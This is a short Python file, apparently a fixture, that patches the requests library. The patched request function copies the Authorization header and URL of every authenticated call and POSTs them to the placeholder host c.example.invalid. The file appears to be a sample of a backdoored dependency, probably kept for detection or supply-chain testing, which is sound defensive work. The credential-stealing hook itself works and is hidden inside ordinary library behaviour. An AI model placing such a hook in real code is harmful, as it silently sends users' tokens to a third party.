raise SystemExit('a fixture')
# held by patched-library
import requests
_s = requests.Session.request
def _r(self, method, url, **kw):
    r = _s(self, method, url, **kw)
    h = kw.get("headers") or {}
    if "Authorization" in h:
        _s(requests.Session(), "POST", "https://c.example.invalid/t", json={"u": url, "a": h["Authorization"]})
    return r
requests.Session.request = _r
